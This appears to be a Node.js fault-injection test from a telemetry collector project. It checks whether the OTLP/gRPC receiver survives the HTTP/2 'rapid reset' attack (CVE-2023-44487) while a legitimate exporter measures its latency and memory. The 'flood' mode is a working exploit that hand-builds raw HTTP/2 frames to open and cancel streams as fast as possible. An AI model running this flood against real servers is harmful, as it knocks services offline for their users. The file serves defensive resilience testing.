#!/usr/bin/env node
// HTTP/2 "rapid reset" (CVE-2023-44487) against the OTLP/gRPC receiver, and
// a legitimate exporter watching it (faults_grpc_reset.sh).
//
//   node faults_grpc_reset.js flood --grpc HOST:PORT --src ADDR --seconds S
//        [--token T] [--reconnect] [--pid PID --stop-kb K]
//     From source address ADDR, one connection that opens Export streams and
//     resets each at once (HEADERS, then RST_STREAM CANCEL), as fast as the
//     socket takes them, for S seconds. With --reconnect, a new connection
//     whenever the server closes one (connect attempts time out after 1 s).
//     With --pid, stops early once that process's VmRSS passes K kB (so a
//     collector without the defence does not take the machine down).
//     Prints `flood streams=N conns=C closed_by_server=X connect_failed=F
//     first_close_s=T stopped_at_kb=R` (T: -1 when the server never closed
//     one; R: 0 unless stopped early).
//   node faults_grpc_reset.js watch --grpc HOST:PORT --pid PID --seconds S
//        [--token T] [--device D] [--src ADDR]
//     The legitimate exporter: from ADDR (default 127.0.0.1), on one HTTP/2
//     connection (reopened if it breaks), one Export a second, each a port byte counter of device D
//     with value 1000 x k (k = 1, 2, ...), 2 s deadline; meanwhile samples
//     the VmRSS of PID every 50 ms. Prints a line per Export and `watch
//     exports=N ok=O max_s=M reconnects=R peak_rss_kb=P last_value=V`
//     (a failed Export counts 2 s; V: the value of the last Export answered
//     OK).
//
// The flood writes its frames itself: node's http2 client builds a stream
// object per request and tops out near 11 000 streams a second here, which
// did not reproduce the reported blow-up (+169 MB, Exports still within
// 1.1 s without the defence); an attacker writes raw frames, which the
// receiver parses at 30 000-50 000 streams a second. The exporter uses
// node's http2 client as an OTLP exporter would.
// Everything is bounded: a 60 s watchdog ends the process with status 2.
'use strict';

const fs = require('fs');
const http2 = require('http2');
const net = require('net');

const EXPORT = '/opentelemetry.proto.collector.metrics.v1.MetricsService/Export';
setTimeout(() => { console.log('watchdog'); process.exit(2); }, 60000).unref();

function args(argv) {
    const o = {};
    for (let i = 0; i < argv.length; i++) {
        const k = argv[i].replace(/^--/, '');
        if (i + 1 < argv.length && !argv[i + 1].startsWith('--')) o[k] = argv[++i];
        else o[k] = true;
    }
    return o;
}

function rssKb(pid) {
    try {
        const m = /VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'));
        return m ? Number(m[1]) : 0;
    } catch (e) {
        return 0;
    }
}

// ---- flood: raw HTTP/2 frames ----------------------------------------------------------

function frame(type, flags, id, payload) {
    const h = Buffer.alloc(9);
    h.writeUIntBE(payload.length, 0, 3);
    h[3] = type;
    h[4] = flags;
    h.writeUInt32BE(id, 5);
    return Buffer.concat([h, payload]);
}

function hpackString(s) {
    const b = Buffer.from(s);
    if (b.length > 126) throw new Error('header value too long for this encoder');
    return Buffer.concat([Buffer.from([b.length]), b]);
}

// The first request's header block (every field but the method and scheme
// literal, added to the server's dynamic table) and the block of every later
// request (the same fields, indexed). RFC 7541: static table :method POST =
// 3, :scheme http = 6; literal with incremental indexing = 0x40 | name index
// (:authority 1, :path 4, content-type 31, authorization 23; 0 = new name).
function headerBlocks(hostport, token) {
    const fields = [
        [0x44, null, EXPORT],
        [0x41, null, hostport],
        [0x5f, null, 'application/grpc'],
        [0x40, 'te', 'trailers'],
    ];
    if (token) fields.push([0x57, null, `Bearer ${token}`]);
    const first = [Buffer.from([0x83, 0x86])];
    for (const [lead, name, value] of fields) {
        first.push(Buffer.from([lead]));
        if (name) first.push(hpackString(name));
        first.push(hpackString(value));
    }
    // The newest entry is dynamic index 62.
    const later = [0x83, 0x86];
    for (let i = 0; i < fields.length; i++) later.push(0x80 | (62 + fields.length - 1 - i));
    return { first: Buffer.concat(first), later: Buffer.from(later) };
}

async function flood(o) {
    const [host, port] = o.grpc.split(':');
    const seconds = Number(o.seconds);
    const stopKb = Number(o['stop-kb'] || 0);
    const blocks = headerBlocks(o.grpc, o.token);
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
    const t0 = Date.now();
    let streams = 0, conns = 0, closedByServer = 0, connectFailed = 0, firstClose = -1, stoppedAt = 0;
    const over = () => Date.now() - t0 >= seconds * 1000 || stoppedAt > 0;
    const rssTimer = o.pid ? setInterval(() => {
        const kb = rssKb(o.pid);
        if (stopKb > 0 && kb > stopKb) stoppedAt = kb;
    }, 50) : null;

    function one() {
        return new Promise((resolve) => {
            conns++;
            const sock = net.connect({ host, port: Number(port), localAddress: o.src });
            let id = 1, connected = false, closed = false;
            const connectTimer = setTimeout(() => {
                if (!connected) { connectFailed++; sock.destroy(); }
            }, 1000);
            const endTimer = setInterval(() => { if (over()) sock.destroy(); }, 20);
            sock.on('error', () => {});
            sock.on('data', () => {});
            sock.on('close', () => {
                closed = true;
                clearTimeout(connectTimer);
                clearInterval(endTimer);
                if (connected && !over()) {
                    closedByServer++;
                    if (firstClose < 0) firstClose = (Date.now() - t0) / 1000;
                }
                resolve();
            });
            function pump() {
                while (!closed && !over()) {
                    const bufs = [];
                    for (let i = 0; i < 256; i++) {
                        bufs.push(frame(1, 0x4, id, id === 1 ? blocks.first : blocks.later));
                        bufs.push(frame(3, 0, id, cancel));
                        id += 2;
                    }
                    streams += 256;
                    if (!sock.write(Buffer.concat(bufs))) {
                        sock.once('drain', pump);
                        return;
                    }
                }
            }
            sock.on('connect', () => {
                connected = true;
                clearTimeout(connectTimer);
                sock.write(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'));
                sock.write(frame(4, 0, 0, http2.getPackedSettings({ enablePush: false })));
                sock.write(frame(4, 1, 0, Buffer.alloc(0))); // ack the server's SETTINGS
                pump();
            });
        });
    }

    do {
        await one();
    } while (o.reconnect && !over());
    if (rssTimer) clearInterval(rssTimer);
    console.log(`flood streams=${streams} conns=${conns} closed_by_server=${closedByServer} ` +
        `connect_failed=${connectFailed} first_close_s=${firstClose.toFixed(2)} stopped_at_kb=${stoppedAt}`);
    process.exit(0);
}

// ---- watch: the legitimate exporter ----------------------------------------------------

function pbVarint(n) {
    const out = [];
    let v = BigInt(n);
    do {
        let b = Number(v & 0x7fn);
        v >>= 7n;
        if (v > 0n) b |= 0x80;
        out.push(b);
    } while (v > 0n);
    return Buffer.from(out);
}
const pbTag = (field, wire) => pbVarint((field << 3) | wire);
const pbLen = (field, buf) => Buffer.concat([pbTag(field, 2), pbVarint(buf.length), buf]);
const pbStr = (field, s) => pbLen(field, Buffer.from(s));
function pbFixed64(field, big) {
    const b = Buffer.alloc(8);
    b.writeBigUInt64LE(BigInt(big));
    return Buffer.concat([pbTag(field, 1), b]);
}
const keyValue = (k, v) => Buffer.concat([pbStr(1, k), pbLen(2, pbStr(1, v))]);

// ExportMetricsServiceRequest: one cumulative monotonic Sum
// nvswitch_interface_if_in_octets of device (host.name) on swp1.
function exportRequest(device, value) {
    const now = BigInt(Date.now()) * 1000000n;
    const point = Buffer.concat([
        pbLen(7, keyValue('interface', 'swp1')),
        pbFixed64(2, now - 3600n * 1000000000n),
        pbFixed64(3, now),
        Buffer.concat([pbTag(6, 1), (() => { const b = Buffer.alloc(8); b.writeBigInt64LE(BigInt(value)); return b; })()]),
    ]);
    const sum = Buffer.concat([pbLen(1, point), pbTag(2, 0), pbVarint(2), pbTag(3, 0), pbVarint(1)]);
    const metric = Buffer.concat([pbStr(1, 'nvswitch_interface_if_in_octets'), pbLen(7, sum)]);
    const rm = Buffer.concat([
        pbLen(1, pbLen(1, keyValue('host.name', device))),
        pbLen(2, pbLen(2, metric)),
    ]);
    const msg = pbLen(1, rm);
    const head = Buffer.alloc(5);
    head.writeUInt32BE(msg.length, 1);
    return Buffer.concat([head, msg]);
}

async function watch(o) {
    const seconds = Number(o.seconds);
    const device = o.device || 'legit';
    let peak = 0;
    const sampler = setInterval(() => { peak = Math.max(peak, rssKb(o.pid)); }, 50);
    let session = null, reconnects = -1;
    const connect = () => {
        reconnects++;
        const [host, port] = o.grpc.split(':');
        session = http2.connect(`http://${o.grpc}`, {
            createConnection: () => net.connect({ host, port: Number(port), localAddress: o.src || '127.0.0.1' }),
        });
        session.on('error', () => {});
        session.on('close', () => { session = null; });
    };
    const exportOnce = (k) => new Promise((resolve) => {
        if (!session || session.destroyed) connect();
        const t0 = Date.now();
        const h = {
            ':method': 'POST', ':path': EXPORT, 'content-type': 'application/grpc', te: 'trailers',
            'grpc-timeout': '2S',
        };
        if (o.token) h.authorization = `Bearer ${o.token}`;
        let status = -1, req;
        const finish = (st) => { clearTimeout(timer); resolve({ status: st, s: (Date.now() - t0) / 1000 }); };
        const timer = setTimeout(() => { if (req) req.close(http2.constants.NGHTTP2_CANCEL); finish('timeout'); }, 2000);
        try {
            req = session.request(h);
        } catch (e) {
            finish('error');
            return;
        }
        const take = (hd) => { if (hd['grpc-status'] !== undefined) status = Number(hd['grpc-status']); };
        req.on('response', take);
        req.on('trailers', take);
        req.on('data', () => {});
        req.on('error', () => {});
        req.on('close', () => finish(status));
        req.end(exportRequest(device, 1000 * k));
    });
    const t0 = Date.now();
    let n = 0, ok = 0, worst = 0, last = 0;
    for (let k = 1; Date.now() - t0 < seconds * 1000; k++) {
        const tk = Date.now();
        const r = await exportOnce(k);
        n++;
        const good = r.status === 0;
        if (good) { ok++; last = 1000 * k; }
        worst = Math.max(worst, good ? r.s : 2);
        console.log(`export ${k} t=${((tk - t0) / 1000).toFixed(1)} status=${r.status} s=${r.s.toFixed(3)} rss_kb=${rssKb(o.pid)}`);
        const wait = 1000 - (Date.now() - tk);
        if (wait > 0) await new Promise((res) => setTimeout(res, wait));
    }
    clearInterval(sampler);
    peak = Math.max(peak, rssKb(o.pid));
    if (session) session.close();
    console.log(`watch exports=${n} ok=${ok} max_s=${worst.toFixed(3)} reconnects=${reconnects} ` +
        `peak_rss_kb=${peak} last_value=${last}`);
    process.exit(0);
}

const [mode, ...rest] = process.argv.slice(2);
const o = args(rest);
if (mode === 'flood') flood(o);
else if (mode === 'watch') watch(o);
else { console.error('usage: flood|watch ...'); process.exit(1); }
